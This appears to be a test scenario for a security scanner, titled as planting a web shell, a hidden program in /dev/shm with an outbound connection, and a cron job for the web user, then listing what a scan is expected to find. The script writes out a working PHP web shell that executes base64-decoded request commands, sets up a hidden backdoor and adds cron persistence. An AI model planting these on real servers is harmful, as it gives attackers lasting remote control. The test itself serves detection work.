# id: C01
# mode: scan
# level: suspicious
# due: now
# root: service
# network: world
# title: a web shell, a hidden program in memory-backed space with a connection, and the cron of the web user
. "$here/intruder.sh"
word shell
word name
pick place /dev/shm/.x "/dev/shm/.$name-lock" /dev/shm/...
mkdir -p "$place" && chown www-data "$place"
dialler "$place/$name" 443
printf '<?php if (isset($_REQUEST["c"])) { system(base64_decode($_REQUEST["c"])); }\n' >"/var/www/html/uploads/$shell.php"
chown www-data "/var/www/html/uploads/$shell.php"
web_service
ask "/uploads/$shell.php?c=$(echo -n "python3 $place/$name" | base64 -w0)" 8081
dialled "$name"
crontab_of www-data "*/5 * * * * $place/$name >/dev/null 2>&1"
said path "/var/www/html/uploads/$shell.php"
said pid "$(pgrep -f "python3 $place/$name" | tail -1)"
said entry name php-fpm
said restarter path /var/spool/cron/crontabs/www-data
